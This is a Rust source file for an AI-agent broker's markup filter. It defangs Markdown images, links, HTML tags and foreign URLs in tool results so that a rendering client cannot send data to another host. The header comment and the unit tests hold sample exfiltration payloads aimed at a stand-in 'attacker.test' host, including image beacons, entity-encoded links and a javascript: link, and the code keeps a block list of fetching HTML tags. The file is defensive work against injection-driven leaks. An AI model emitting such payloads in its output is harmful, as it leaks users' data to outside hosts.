//! Active markup in results (T11).
//!
//! A result goes to a model, and the model's client may render it: a Markdown image or an HTML
//! `<img>` is fetched the moment it is shown, and a link is one click away. Either can carry data
//! to another host in its URL (`![x](https://attacker.test/?d=...)`). Data returned by an
//! upstream or a stored row is not the agent's to trust, so before a result leaves the broker
//! every URL that points anywhere but the handle's own destinations is defanged, kept readable
//! but neither clickable nor fetchable:
//! - `scheme://host` becomes `scheme[:]//host` (no autolinker or renderer takes it as a URL);
//! - a protocol-relative `//host` in a link or attribute becomes `[/]/host`;
//! - Markdown images and links lose their syntax (`![` → `!\[`, `](` → `]\(`), so that a defanged
//!   URL is not fetched as a path on the page's own origin either;
//! - HTML elements that fetch, navigate or submit (`img`, `a`, `iframe`, `form`, `meta`, `link`,
//!   `script`, `object`, `embed`, `base`, `svg`, `video`, `audio`, `source`, `input`, `button`,
//!   `frame`, `style`) lose their opening `<` (written `&lt;`), wherever they point.
//!
//! All matching is linear-time (`regex`). `javascript:`, `data:` and `vbscript:` links are
//! defanged as well, whatever the host.

pub use airlock_core::config::MarkupPolicy;
use regex::Regex;
use std::borrow::Cow;
use std::sync::OnceLock;

struct Patterns {
    /// `scheme://authority` for schemes that navigate or fetch.
    url: Regex,
    /// `javascript:` and `vbscript:` before code, `data:` before a media type.
    script: Regex,
    /// A protocol-relative reference right after `](`, `(`, `=`, a quote or `url(`.
    relative: Regex,
    /// The opening of an element that fetches, navigates or submits.
    tag: Regex,
    /// Markdown image or link syntax.
    md_image: Regex,
    md_link: Regex,
    /// An inline link's destination: `](dest`.
    link_dest: Regex,
    /// A reference definition: `[label]: dest` at the start of a line.
    ref_def: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| Patterns {
        url: Regex::new(r"(?i)\b(https?|wss?|ftps?|sftp|file):(//)([^\s/?#<>\x22'`\\()\[\]{}|^]*)").expect("url pattern"),
        script: Regex::new(r"(?i)\b(javascript|vbscript):(\S)|\b(data):([a-z]+/[a-z0-9.+-]+[;,])").expect("script pattern"),
        relative: Regex::new(r#"(\]\(|\(|=\s*["']?|\burl\(\s*["']?)//([^\s/?#<>"'`\\()\[\]]+)"#).expect("relative pattern"),
        tag: Regex::new(
            r"(?i)<\s*/?\s*(img|a|iframe|frame|form|meta|link|script|object|embed|base|svg|video|audio|source|input|button|style|image)\b",
        )
        .expect("tag pattern"),
        md_image: Regex::new(r"!\s*\[").expect("image pattern"),
        md_link: Regex::new(r"\]\s*[(\[]").expect("link pattern"),
        link_dest: Regex::new(r"\]\s*\(\s*<?([^\s)>]*)").expect("link destination pattern"),
        ref_def: Regex::new(r"(?m)^([ \t]{0,3})\[([^\]\n]*)\]:[ \t]*<?(\S*)").expect("reference definition pattern"),
    })
}

/// The host of an authority: without user info, port or IPv6 brackets, lower case.
fn host_of(authority: &str) -> String {
    let a = authority.rsplit('@').next().unwrap_or(authority);
    let h = if let Some(rest) = a.strip_prefix('[') { rest.split(']').next().unwrap_or(rest) } else { a.split(':').next().unwrap_or(a) };
    h.trim_end_matches('.').to_ascii_lowercase()
}

/// Defangs active markup in `text` that does not point at one of `own_hosts` (lower-case host
/// names, the handle's destinations). Returns the text and how many pieces were defanged.
pub fn neutralize<'a>(text: &'a str, own_hosts: &[String]) -> (Cow<'a, str>, usize) {
    let p = patterns();
    // Cheap refusal of the common case: nothing that could start markup.
    if !text.contains(':') && !text.contains('<') && !text.contains("](") && !text.contains("//") {
        return (Cow::Borrowed(text), 0);
    }
    let own = |host: &str| !host.is_empty() && own_hosts.iter().any(|h| h == host);
    let mut n = 0usize;
    let mut foreign_url = false;
    let t = p.url.replace_all(text, |c: &regex::Captures<'_>| {
        if own(&host_of(&c[3])) {
            return c[0].to_owned();
        }
        n += 1;
        foreign_url = true;
        format!("{}[:]//{}", &c[1], &c[3])
    });
    let t = match p.script.replace_all(&t, |c: &regex::Captures<'_>| {
        n += 1;
        foreign_url = true;
        match (c.get(1), c.get(3)) {
            (Some(scheme), _) => format!("{}[:]{}", scheme.as_str(), &c[2]),
            (None, Some(scheme)) => format!("{}[:]{}", scheme.as_str(), &c[4]),
            _ => c[0].to_owned(),
        }
    }) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    };
    let t = match p.relative.replace_all(&t, |c: &regex::Captures<'_>| {
        if own(&host_of(&c[2])) {
            return c[0].to_owned();
        }
        n += 1;
        foreign_url = true;
        format!("{}[/]/{}", &c[1], &c[2])
    }) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    };
    let before = n;
    let t = match p.tag.replace_all(&t, |c: &regex::Captures<'_>| {
        n += 1;
        format!("&lt;{}", &c[0][1..])
    }) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    };
    // Markdown syntax is broken only where it could still reach out: an image anywhere (a
    // defanged URL would be fetched as a path of the page's own origin), a link when the text
    // held a foreign URL.
    let t = match p.md_image.replace_all(&t, |c: &regex::Captures<'_>| {
        n += 1;
        c[0].replace('[', "\\[")
    }) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    };
    // A link destination or reference definition that is not plainly one of the handle's own
    // URLs is broken too: renderers decode entities and escapes in destinations, so
    // `[a](&#104;ttps://attacker.test)` is a live link whose scheme no URL pattern sees.
    let own_url = |d: &str| {
        let l = d.to_ascii_lowercase();
        let rest = l.strip_prefix("https://").or_else(|| l.strip_prefix("http://"));
        rest.is_some_and(|r| own(&host_of(r.split(['/', '?', '#']).next().unwrap_or(""))))
    };
    let t = match p.link_dest.replace_all(&t, |c: &regex::Captures<'_>| {
        if own_url(&c[1]) {
            return c[0].to_owned();
        }
        n += 1;
        c[0].replacen('(', "\\(", 1)
    }) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    };
    let t = match p.ref_def.replace_all(&t, |c: &regex::Captures<'_>| {
        if own_url(&c[3]) {
            return c[0].to_owned();
        }
        n += 1;
        format!("{}\\[{}]:{}", &c[1], &c[2], &c[0][c[1].len() + c[2].len() + 3..])
    }) {
        Cow::Borrowed(_) => t,
        Cow::Owned(o) => Cow::Owned(o),
    };
    let t = if foreign_url || n > before {
        match p.md_link.replace_all(&t, |c: &regex::Captures<'_>| c[0].replacen('(', "\\(", 1).replacen("][", "]\\[", 1)) {
            Cow::Borrowed(_) => t,
            Cow::Owned(o) => Cow::Owned(o),
        }
    } else {
        t
    };
    match t {
        Cow::Borrowed(_) => (Cow::Borrowed(text), 0),
        Cow::Owned(o) if n > 0 => (Cow::Owned(o), n),
        Cow::Owned(_) => (Cow::Borrowed(text), 0),
    }
}

/// Applies `policy` to every string in a result, in place, and returns how many pieces of active
/// markup were found. With [`MarkupPolicy::Neutralize`] they are defanged; with
/// [`MarkupPolicy::Flag`] they are only counted.
pub fn apply(value: &mut serde_json::Value, policy: MarkupPolicy, own_hosts: &[String]) -> usize {
    use serde_json::Value;
    if policy == MarkupPolicy::Off {
        return 0;
    }
    match value {
        Value::String(s) => {
            let (out, n) = neutralize(s, own_hosts);
            if let (Cow::Owned(o), MarkupPolicy::Neutralize) = (out, policy) {
                *s = o;
            }
            n
        }
        Value::Array(items) => items.iter_mut().map(|v| apply(v, policy, own_hosts)).sum(),
        Value::Object(map) => map.values_mut().map(|v| apply(v, policy, own_hosts)).sum(),
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn own() -> Vec<String> {
        vec!["api.example.com".into()]
    }

    #[test]
    fn t11_foreign_images_links_and_tags_are_defanged_own_ones_kept() {
        let cases = [
            ("see ![x](https://attacker.test/p?d=abc)", "see !\\[x]\\(https[:]//attacker.test/p?d=abc)"),
            ("[click](http://attacker.test)", "[click]\\(http[:]//attacker.test)"),
            ("<https://attacker.test/x>", "<https[:]//attacker.test/x>"),
            ("<img src=\"https://attacker.test/a.png\">", "&lt;img src=\"https[:]//attacker.test/a.png\">"),
            ("<IMG SRC=//attacker.test/a>", "&lt;IMG SRC=[/]/attacker.test/a>"),
            ("[ref]: https://attacker.test/q", "\\[ref]: https[:]//attacker.test/q"),
            ("[a](&#104;ttps://attacker.test/)", "[a]\\(&#104;ttps://attacker.test/)"),
            ("[a](%68ttps://attacker.test/)", "[a]\\(%68ttps://attacker.test/)"),
            ("[r]: &#x68;ttps://attacker.test/", "\\[r]: &#x68;ttps://attacker.test/"),
            ("[docs](https://api.example.com/v1/docs)", "[docs](https://api.example.com/v1/docs)"),
            ("[a](javascript:alert(1))", "[a]\\(javascript[:]alert(1))"),
            ("doc at https://api.example.com/v1/docs", "doc at https://api.example.com/v1/docs"),
            ("https://user@API.example.com:443/x", "https://user@API.example.com:443/x"),
            ("https://api.example.com.attacker.test/x", "https[:]//api.example.com.attacker.test/x"),
            ("https://api.example.com@attacker.test/x", "https[:]//api.example.com@attacker.test/x"),
            ("plain text, time 12:30, ratio a:b, data: 5, metadata:x", "plain text, time 12:30, ratio a:b, data: 5, metadata:x"),
            ("![p](data:image/png;base64,AAAA)", "!\\[p]\\(data[:]image/png;base64,AAAA)"),
        ];
        for (input, want) in cases {
            let (out, _) = neutralize(input, &own());
            assert_eq!(out, want, "{input}");
        }
    }
}
